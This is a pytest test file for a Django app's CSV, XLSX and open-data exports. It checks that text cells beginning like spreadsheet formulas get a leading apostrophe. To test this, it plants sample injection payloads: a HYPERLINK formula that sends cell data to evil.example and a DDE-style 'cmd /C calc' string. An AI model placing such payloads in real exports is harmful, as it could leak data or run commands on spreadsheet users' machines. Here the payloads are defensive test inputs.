"""Formula injection (issue 15, point 2): text cells that start like a formula are neutralised in the CSV exports
and open data with a leading apostrophe; numbers (a negative longitude) and dates are written unchanged.

Read back with the `csv` module and, for open data, with frictionless against the published Table Schema.
Runs on SQLite (Python joins the database's texts) and on PostgreSQL (COPY) alike.
"""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from fabriques.exports.formulas import FORMULA_STARTERS, text_cell_safe
from tests.exports.test_exports import read_csv_zip, url

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&E2&F2,"Voir")'


def _poison(world):
    dossier = world.laureate
    organisation = dossier.organisation
    organisation.name = PAYLOAD
    organisation.save(update_fields=["name"])
    dossier.place_name = "+Lieu"
    dossier.place_address = "@SUM(1+1)*cmd|' /C calc'!A0"
    dossier.place_longitude = -1.5536
    dossier.save(update_fields=["place_name", "place_address", "place_longitude"])
    answer = dossier.answers.order_by("id").first()
    answer.text = "-2+3"
    answer.save(update_fields=["text"])
    line = dossier.budget_lines.filter(kind="resource").first() or dossier.budget_lines.first()
    line.cofunder, line.label = "\t=1+1", "\r=2+2"
    line.save(update_fields=["cofunder", "label"])
    return dossier, answer


def _no_live_formula(files):
    for name, rows in files.items():
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTERS) or _is_number(cell), (name, cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_formula_starters_in_text_cells_get_an_apostrophe_and_numbers_stay(client, world):
    dossier, answer = _poison(world)
    client.force_login(world.admin)

    files = read_csv_zip(client.get(url(world, "download", "csv")))

    _no_live_formula(files)
    header, *body = files["dossiers.csv"]
    row = dict(zip(header, next(r for r in body if r[0] == dossier.reference), strict=True))
    assert row["Organisation"] == "'" + PAYLOAD
    assert row["Lieu"] == "'+Lieu"
    assert row["Adresse"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["Longitude"] == "-1.5536"  # a number, not text: unchanged
    assert row["Déposé le"] == timezone.localtime(dossier.last_deposited_at).strftime("%Y-%m-%d %H:%M:%S")
    answers = {(r[0], r[1]): r[3] for r in files["reponses.csv"][1:]}
    assert answers[(dossier.reference, answer.criterion.code)] == "'-2+3"
    budget_header, *budget = files["budget.csv"]
    cofunders = {r[budget_header.index("Cofinanceur")] for r in budget}
    labels = {r[budget_header.index("Libellé")] for r in budget}
    assert "'\t=1+1" in cofunders
    assert "'\r=2+2" in labels


def test_xlsx_keeps_the_text_as_typed_in_string_cells(client, world):
    from openpyxl import load_workbook

    dossier, _ = _poison(world)
    client.force_login(world.admin)

    workbook = load_workbook(io.BytesIO(b"".join(client.get(url(world, "download", "xlsx")).streaming_content)))

    sheet = workbook["Dossiers"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == dossier.reference)
    cell = row[header.index("Organisation")]
    assert (cell.value, cell.data_type) == (PAYLOAD, "s")  # a string cell: never evaluated


def test_open_data_csv_neutralises_text_and_still_validates(client, world, tmp_path):
    from frictionless import Resource, Schema

    world.laureate.place_name = PAYLOAD
    world.laureate.save(update_fields=["place_name"])

    text = b"".join(client.get(reverse("opendata:laureates-csv")).streaming_content).decode()

    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["nom_lieu"] == "'" + PAYLOAD
    path = tmp_path / "laureats.csv"
    path.write_text(text, encoding="utf-8")
    descriptor = client.get(reverse("opendata:datapackage")).json()
    schema = Schema.from_descriptor(descriptor["resources"][0]["schema"])
    report = Resource(path=path.name, basepath=str(tmp_path), schema=schema).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Lieu = partagé", "Lieu = partagé"), ("", ""), ("'déjà", "'déjà"),
])
def test_the_rule_in_python(value, written):
    assert text_cell_safe(value) == written
